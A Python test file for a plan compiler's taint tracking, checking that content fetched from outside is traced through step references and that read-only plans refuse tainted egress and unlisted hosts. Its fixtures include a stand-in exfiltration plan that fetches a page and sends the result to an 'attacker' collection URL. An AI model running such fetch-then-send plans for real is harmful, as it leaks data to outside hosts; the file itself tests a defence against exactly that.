"""Untrusted content at compile time: taint traced through references, the hosts a plan
lists, and what a read-only run refuses (``tainted_egress``, ``host_not_allowed``)."""

from __future__ import annotations

from typing import Any

import pytest

from plandag.compiler import compile_plan
from plandag.compiler.patch import PatchBase, compile_patch
from plandag.errors import PlanError
from plandag.tools.registry import Registry


def step(step_id: int, tool: str, **args: Any) -> dict[str, Any]:
    return {"id": step_id, "tool": tool, "args": args}


PAGE = "https://docs.example.com/page"
ATTACKER = "http://127.0.0.2:8081/collect"

EXFILTRATION = {
    "steps": [
        step(1, "fetch", url=PAGE),
        step(2, "anything", value="<step_1_result>"),
        step(3, "send", url=ATTACKER, body="<step_2_result>"),
        step(4, "send", url=ATTACKER, body="constant"),
    ]
}


def test_taint_flows_from_a_source_through_references(registry: Registry) -> None:
    compiled = compile_plan(EXFILTRATION, registry)
    taint = {
        key: (item.tainted_input, item.tainted_output, item.tainted_egress)
        for key, item in compiled.steps.items()
    }
    assert taint == {
        1: (False, True, False),
        2: (True, True, False),
        3: (True, True, True),
        4: (False, False, False),
    }


def test_a_plan_lists_the_hosts_of_its_literal_urls(registry: Registry) -> None:
    plan = {
        "params": {"site": {"type": "string"}},
        "steps": [
            step(1, "fetch", url=PAGE),
            step(2, "fetch", url="<param.site>"),
            step(3, "fetch", url="<step_1_result>"),
            step(4, "send", url="https://<step_1_result>/x"),
        ],
    }
    compiled = compile_plan(
        plan, registry, params={"site": "http://127.0.0.1:9000/a"}, http_allow=["*.example.org"]
    )
    assert [compiled.steps[key].hosts for key in (1, 2, 3, 4)] == [
        ("docs.example.com:443",),
        ("127.0.0.1:9000",),
        (),
        (),
    ]
    assert compiled.listed_hosts == ("127.0.0.1:9000", "docs.example.com:443")
    assert compiled.allowed_hosts == ("*.example.org", "127.0.0.1:9000", "docs.example.com:443")


def test_a_read_only_plan_reaches_only_configured_hosts(registry: Registry) -> None:
    plan = {"steps": [step(1, "fetch", url=PAGE), step(2, "fetch", url=ATTACKER)]}
    with pytest.raises(PlanError) as raised:
        compile_plan(plan, registry, read_only=True, http_allow=["*.example.com"])
    [diagnostic] = raised.value.diagnostics
    assert (diagnostic.code, diagnostic.step_id) == ("host_not_allowed", 2)
    assert "127.0.0.2:8081" in diagnostic.message
    assert diagnostic.hint.startswith("add the host with --http-allow 127.0.0.2:8081")
    compiled = compile_plan(
        {"steps": [step(1, "fetch", url=PAGE)]},
        registry,
        read_only=True,
        http_allow=["*.example.com"],
    )
    assert compiled.allowed_hosts == ("*.example.com",)


def test_a_read_only_plan_refuses_tainted_egress_only(registry: Registry) -> None:
    with pytest.raises(PlanError) as raised:
        compile_plan(EXFILTRATION, registry, read_only=True, http_allow=["*"])
    [diagnostic] = [d for d in raised.value.diagnostics if d.severity == "error"]
    assert (diagnostic.code, diagnostic.step_id) == ("tainted_egress", 3)
    assert "(steps 2)" in diagnostic.message


def test_a_plan_written_after_reading_outside_content_has_tainted_literals(
    registry: Registry,
) -> None:
    plan = {"steps": [step(1, "send", url=ATTACKER, body="what the page said")]}
    assert not compile_plan(plan, registry).steps[1].tainted_egress
    compiled = compile_plan(plan, registry, tainted_author=True)
    assert compiled.steps[1].tainted_egress
    assert compiled.steps[1].tainted_literals
    with pytest.raises(PlanError) as raised:
        compile_plan(plan, registry, tainted_author=True, read_only=True, http_allow=["*"])
    assert raised.value.codes == ["tainted_egress"]


def test_a_patch_inherits_the_taint_of_the_steps_it_uses(registry: Registry) -> None:
    compiled = compile_plan({"steps": [step(1, "fetch", url=PAGE)]}, registry)
    patch = compile_patch(
        PatchBase.from_compiled(compiled),
        [step(2, "send", url=ATTACKER, body="<step_1_result>")],
        registry,
    )
    assert patch.steps[0].tainted_egress
    clean = compile_patch(compiled, [step(3, "send", url=ATTACKER, body="hello")], registry)
    assert not clean.steps[0].tainted_egress
    after_reading = compile_patch(
        compiled, [step(3, "send", url=ATTACKER, body="hello")], registry, tainted_author=True
    )
    assert after_reading.steps[0].tainted_egress
    with pytest.raises(PlanError) as raised:
        compile_patch(
            compiled,
            [step(3, "send", url=ATTACKER, body="<step_1_result>")],
            registry,
            read_only=True,
            http_allow=["127.0.0.2"],
        )
    assert raised.value.codes == ["tainted_egress"]
